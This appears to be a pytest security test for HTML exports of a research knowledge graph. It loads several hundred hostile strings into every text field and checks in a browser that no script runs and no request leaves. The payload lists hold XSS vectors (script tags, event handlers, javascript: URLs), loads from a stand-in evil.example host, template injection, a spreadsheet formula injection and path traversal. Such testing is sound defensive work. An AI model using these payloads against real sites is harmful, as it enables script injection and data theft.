"""Several hundred hostile texts in every place that a text can have: nothing runs, nothing leaves, nothing breaks."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from browser import open_browser, visit

from exports.pages.explorer import read_bundle, write_explorer
from exports.pages.pyvis_page import write_page
from kg.graph import KnowledgeGraph
from kg.model import (
    Claim,
    Entity,
    EntityType,
    Evidence,
    LinkKind,
    Paper,
    PartialDate,
    Resource,
    Sighting,
    Span,
)

_BREAKS = (
    "",
    '"',
    "'",
    "`",
    "</script>",
    "</style>",
    "</title>",
    "-->",
    "]]>",
    "\\",
    "\\u003c/script>",
    "</textarea>",
)
_PAYLOADS = (
    "<script>PWN</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=PWN>",
    "<img src=https://evil.example/x.png>",
    "<svg onload=PWN>",
    "<svg><script>PWN</script></svg>",
    "<iframe srcdoc='<script>parent.PWN</script>'></iframe>",
    "<a href='javascript:PWN'>x</a>",
    "<details open ontoggle=PWN>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button autofocus>",
    "<input autofocus onfocus=PWN>",
    "{{constructor.constructor('PWN')()}}",
    "${PWN}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "javascript:PWN",
    "data:text/html,<script>PWN</script>",
    "<!--<script>PWN",
    'PAGE-DATA\nPAGE-SCRIPT<PAGE-POLICY">',
    "\u2028PWN\u2029",
    "<noscript><p title='</noscript><img src=x onerror=PWN>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=PWN>",
)
_ODD = (
    "\x00", "\x1b[31m", "\ud800", "\udfff\ud83d", "\ufffe", "\u202egnp.exe", "\u2066\u2069" * 50, "a\u0301" * 400,
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🏴‍☠️", "ﷺ" * 30, "x" * 1_000_000, " ", "\t\n\r", "=cmd|'/c calc'!A0", "__proto__", "constructor",
    "toString", "hasOwnProperty", "-0", "1e999", "null", "undefined", "NaN", "%00", "%2e%2e%2f", "../../etc/passwd",
    "https://evil.example/\"onmouseover=PWN", "<", ">", "&", "&lt;script&gt;PWN&lt;/script&gt;", "#node=x&view=table",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(
    text.replace("PWN", "window.pwned=1")
    for text in (*(a + b for a, b in product(_BREAKS, _PAYLOADS)), *_ODD)
)

needs_bundle = pytest.mark.skipif(read_bundle() is None, reason="built without the explorer")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with open_browser("--use-angle=swiftshader", "--enable-unsafe-swiftshader") as running:
        yield running


def make_hostile(payloads: tuple[str, ...]) -> KnowledgeGraph:
    """One paper, dataset and link a payload, the payload in every text of theirs."""
    graph = KnowledgeGraph()
    for number, payload in enumerate(payloads):
        paper = Paper(
            id=f"title:{number}{payload[:80]}", title=payload, abstract=f"We use {payload} here.", authors=(payload,),
            organisation=payload, venue=payload, date=PartialDate(2024), doi=payload, links=(payload,),
            keywords=(payload,), sightings=(Sighting(payload[:200], payload, 1),),
        )  # fmt: skip
        name = payload if payload.strip() else f"blank {number}"
        entity = Entity(
            f"dataset/{number}{payload[:80]}", EntityType.DATASET, name, (name, payload + "2"), (payload, "javascript:window.pwned=1"),
            (), "javascript:window.pwned=1",
        )  # fmt: skip
        resource = Resource(f"resource/{number}{payload[:80]}", payload, LinkKind.OTHER, name)
        graph.add_paper(paper)
        graph.add_entity(entity)
        graph.add_resource(resource)
        start = paper.abstract_start
        focus = Span(start + 7, start + 7 + len(payload))
        evidence = Evidence(start, len(paper.text), paper.text[start:], (focus,))
        for relation, target in (("uses", entity.id), ("has_code", resource.id)):
            graph.add_claim(
                Claim(
                    f"c{relation}{number}{payload[:80]}",
                    paper.id,
                    paper.node_id,
                    relation,
                    target,
                    evidence,
                    payload[:99],
                    0.5,
                    payload,
                )
            )
    return graph


@pytest.mark.slow
@pytest.mark.parametrize(
    "write",
    [
        pytest.param(
            lambda graph, path, title: write_explorer(graph, path, title=title),
            id="explorer",
            marks=needs_bundle,
        ),
        pytest.param(lambda graph, path, title: write_page(graph, path, title=title), id="pyvis"),
    ],
)
def test_no_payload_runs(
    browser: Any, tmp_path: Path, write: Callable[[KnowledgeGraph, Path, str], Path]
) -> None:
    """Every fourth panel is opened; no script of theirs runs, no request leaves, no error is raised."""
    assert len(PAYLOADS) > 300
    graph = make_hostile(PAYLOADS)
    path = write(graph, tmp_path / "hostile.html", "".join(PAYLOADS[:300]))
    page, watch = visit(browser, path)
    page.fill("#search", "script")
    page.locator("#found button").first.click()
    for entity in graph.entities()[::4]:
        number = entity.id.split("/", 1)[1][:6]
        page.fill("#search", entity.name[:60])
        found = page.locator("#found button")
        if found.count():
            found.first.evaluate("(button) => button.click()")
            assert page.locator("#panel h2").count() == 1, number
        page.keyboard.press("Escape")
        page.keyboard.press("Escape")
    assert page.evaluate("window.pwned") is None
    assert page.locator("main img, main iframe, main form, main svg, aside img, aside iframe").count() == 0
    links = page.evaluate("[...document.querySelectorAll('a')].map((a) => a.protocol)")
    assert set(links) <= {"http:", "https:"}
    watch.assert_quiet()
